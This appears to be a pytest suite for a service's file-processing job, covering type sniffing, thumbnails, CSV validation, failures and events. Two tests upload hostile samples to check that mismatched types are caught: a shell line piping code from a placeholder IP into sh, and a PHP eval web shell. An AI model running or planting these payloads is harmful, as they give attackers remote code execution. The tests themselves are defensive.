"""`file.process`: what a file really is, thumbnails, CSV row errors, failures, the event.

The job runs in this process through the worker's own code (`HubTask`), on
the real database and storage; test_files_e2e.py runs it in a worker process.
"""
from __future__ import annotations

import uuid

import pytest
from sqlalchemy import select

from hub.extensions import db
from hub.jobs import events
from hub.models import File
from tests.files.conftest import jpeg_bytes, png_bytes
from tests.support.helpers import assert_error
from tests.support.jobs import run_queued_jobs


@pytest.fixture
def published():
    """Record `file.processed` events as listeners get them (and unsubscribe after)."""
    seen: list[tuple[uuid.UUID, dict]] = []

    def listener(tenant_id, event_type, data):
        # Inside the handler's transaction: the row already says processed.
        row = db.session.get(File, uuid.UUID(data["id"]))
        seen.append((tenant_id, {**data, "row_status": row.status}))

    events.subscribe("file.processed", listener)
    yield seen
    events._listeners["file.processed"].remove(listener)


def _upload(api, name: str, data: bytes, content_type: str, **fields) -> dict:
    resp = api.upload(name, data, content_type, fields=fields or None)
    assert resp.status_code == 201, resp.get_json()
    return resp.get_json()["data"]


def test_image_gets_dimensions_and_a_thumbnail_beside_it(backend, files_client, published):
    api = files_client()
    file = _upload(api, "holiday.jpg", jpeg_bytes(1024, 768), "image/jpeg")
    assert len(run_queued_jobs(backend.app, "file.process")) == 1
    done = api.file(file["id"])
    assert done["status"] == "processed" and done["content_type"] == "image/jpeg"
    assert done["metadata"]["kind"] == "image"
    assert done["metadata"]["image"] == {"format": "JPEG", "mode": "RGB", "frames": 1, "width": 1024,
                                         "height": 768, "animated": False}
    size = backend.app.config["FILE_THUMBNAIL_SIZE"]
    assert done["metadata"]["thumbnail"]["width"] == size
    assert done["metadata"]["thumbnail"]["height"] == size * 768 // 1024
    prefix = f"tenants/{api.tenant_id}/files/{file['id']}/"
    assert backend.keys(api.tenant_id) == [prefix + "original", prefix + "thumbnail"]
    [(tenant_id, data)] = published
    assert str(tenant_id) == api.tenant_id and data["row_status"] == "processed"
    assert data["id"] == file["id"] and data["metadata"]["image"]["width"] == 1024
    job = api.job(file["job_id"])
    assert job["status"] == "succeeded" and job["result"]["kind"] == "image"


def test_a_script_claiming_to_be_png_is_recognised(backend, files_client, published):
    api = files_client()
    script = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
    file = _upload(api, "cute-cat.png", script, "image/png")
    run_queued_jobs(backend.app, "file.process")
    done = api.file(file["id"])
    assert done["status"] == "processed"
    assert done["content_type"] == "text/x-shellscript" and done["declared_content_type"] == "image/png"
    assert done["metadata"]["kind"] == "script"
    assert done["metadata"]["declared_content_type_mismatch"] is True
    assert "thumbnail" not in done["metadata"] and not done["has_thumbnail"]
    assert published[0][1]["content_type"] == "text/x-shellscript"


def test_php_text_claiming_to_be_jpeg_is_recognised(app, base_config, register):
    from tests.files.conftest import Backend, FilesClient

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    file = _upload(api, "avatar.jpg", b"GIF-ish header?\n<?php eval($_POST['x']); ?>\n", "image/jpeg")
    run_queued_jobs(app, "file.process")
    assert api.file(file["id"])["content_type"] == "application/x-php"


def test_csv_with_bad_rows_reports_them(backend, files_client, published):
    api = files_client()
    rows = "".join(f"user{i}@example.com,{i % 90},{'pro' if i % 2 else 'free'}\n" for i in range(500))
    data = ("email,age,plan\n" + rows + "broken-email,abc,gold\n,12,free\nz@example.com,7\n").encode()
    schema = {"columns": [{"name": "email", "type": "email", "required": True},
                          {"name": "age", "type": "integer", "min": 0},
                          {"name": "plan", "enum": ["free", "pro"]}]}
    file = _upload(api, "users.csv", data, "text/csv", csv_schema=schema)
    assert file["csv_schema"]["columns"][0] == {"name": "email", "type": "email", "required": True}
    run_queued_jobs(backend.app, "file.process")
    done = api.file(file["id"])
    assert done["status"] == "processed" and done["content_type"] == "text/csv"
    csv_meta = done["metadata"]["csv"]
    assert csv_meta["row_count"] == 503 and csv_meta["valid_rows"] == 500
    assert csv_meta["invalid_rows"] == 3 and csv_meta["error_count"] == 5
    assert [(e["row"], e["column"], e["error"]) for e in csv_meta["row_errors"]] == [
        (502, "email", "not an email address"), (502, "age", "not an integer"),
        (502, "plan", "not one of free, pro"), (503, "email", "a value is required"),
        (504, None, "expected 3 fields, found 2"),
    ]
    assert published[0][1]["metadata"]["csv"]["invalid_rows"] == 3


def test_row_errors_are_capped_in_metadata(app, base_config, register, monkeypatch):
    from tests.files.conftest import Backend, FilesClient

    monkeypatch.setitem(app.config, "FILE_CSV_MAX_ROW_ERRORS", 5)
    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    data = b"id,n\n" + b"".join(b"%d,x\n" % i for i in range(40))
    file = _upload(api, "n.csv", data, "text/csv",
                   csv_schema={"columns": [{"name": "n", "type": "number"}]})
    run_queued_jobs(app, "file.process")
    csv_meta = api.file(file["id"])["metadata"]["csv"]
    assert len(csv_meta["row_errors"]) == 5 and csv_meta["error_count"] == 40
    assert csv_meta["row_errors_truncated"] is True


def test_corrupt_image_fails_the_job_and_the_file_says_why(backend, files_client, published):
    api = files_client()
    image = png_bytes(400, 300)
    file = _upload(api, "broken.png", image[: len(image) - 200] + b"\0" * 50, "image/png")
    run_queued_jobs(backend.app, "file.process")
    done = api.file(file["id"])
    assert done["status"] == "failed" and done["error"]["code"] == "IMAGE_CORRUPT"
    assert "could not be decoded" in done["error"]["message"]
    job = api.job(file["job_id"])
    assert job["status"] == "failed" and job["attempts"] == 1  # permanent: not retried
    assert job["error"] == done["error"]
    assert published == []  # nothing was announced
    assert backend.keys(api.tenant_id) == [f"tenants/{api.tenant_id}/files/{file['id']}/original"]


def test_undecodable_csv_fails_with_a_clear_error(app, base_config, register):
    from tests.files.conftest import Backend, FilesClient

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    # Valid UTF-8 for the first 100 KB (so it sniffs as CSV), then Latin-1.
    data = b"name,city\n" + b"ann,Oslo\n" * 12000 + "zoë,Zürich\n".encode("latin-1")
    file = _upload(api, "cities.csv", data, "text/csv")
    run_queued_jobs(app, "file.process")
    done = api.file(file["id"])
    assert done["status"] == "failed" and done["error"]["code"] == "CSV_UNDECODABLE"
    assert "UTF-8" in done["error"]["message"]


def test_declared_csv_that_is_binary_fails(app, base_config, register):
    from tests.files.conftest import Backend, FilesClient

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    file = _upload(api, "data.csv", bytes(range(256)) * 10, "text/csv",
                   csv_schema={"columns": [{"name": "a"}]})
    run_queued_jobs(app, "file.process")
    done = api.file(file["id"])
    assert done["status"] == "failed" and done["error"]["code"] == "CSV_UNDECODABLE"


def test_other_files_get_type_and_hash_only(app, base_config, register):
    from tests.files.conftest import Backend, FilesClient

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    file = _upload(api, "report.pdf", b"%PDF-1.7\n" + b"x" * 5000, "application/pdf")
    run_queued_jobs(app, "file.process")
    done = api.file(file["id"])
    assert done["status"] == "processed" and done["content_type"] == "application/pdf"
    assert done["metadata"] == {"kind": "pdf", "detected": {"description": "PDF document"}}


def test_progress_is_reported_while_reading(app, base_config, register):
    from tests.files.conftest import Backend, FilesClient

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    data = b"a,b\n" + b"1,2\n" * 800_000  # 3.2 MB: several reads
    file = _upload(api, "big.csv", data, "text/csv")
    run_queued_jobs(app, "file.process")
    steps = [e["progress"] for e in api.client.get(
        f"/api/v1/jobs/{file['job_id']}/events?per_page=100", headers=api.account.headers,
    ).get_json()["data"] if e["kind"] == "progress"]
    assert len(steps) >= 5 and steps == sorted(steps) and steps[-1] == 95


def test_publish_and_processed_row_commit_together(app, base_config, register):
    """A listener that fails takes the `processed` state down with it: one transaction."""
    from tests.files.conftest import Backend, FilesClient

    def broken(tenant_id, event_type, data):
        raise RuntimeError("listener blew up")

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    file = _upload(api, "a.txt", b"hello\n", "text/plain")
    events.subscribe("file.processed", broken)
    try:
        run_queued_jobs(app, "file.process")
    finally:
        events._listeners["file.processed"].remove(broken)
    done = api.file(file["id"])
    assert done["status"] == "failed" and done["content_type"] == "application/octet-stream"
    assert api.job(file["job_id"])["error"]["code"] == "INTERNAL_ERROR"


def test_a_file_deleted_before_its_job_runs_is_skipped(app, base_config, register):
    from tests.files.conftest import Backend, FilesClient

    api = FilesClient(Backend("local", app, base_config, lambda: None), register())
    file = _upload(api, "a.txt", b"hello\n", "text/plain")
    with app.app_context():  # the row goes, but the job was already taken by a worker
        db.session.delete(db.session.scalar(select(File).where(File.id == uuid.UUID(file["id"]))))
        db.session.commit()
    run_queued_jobs(app, "file.process")
    job = api.job(file["job_id"])
    assert job["status"] == "succeeded" and job["result"]["skipped"] == "the file was deleted"
    assert_error(api.get(f"/{file['id']}"), 404, "NOT_FOUND")
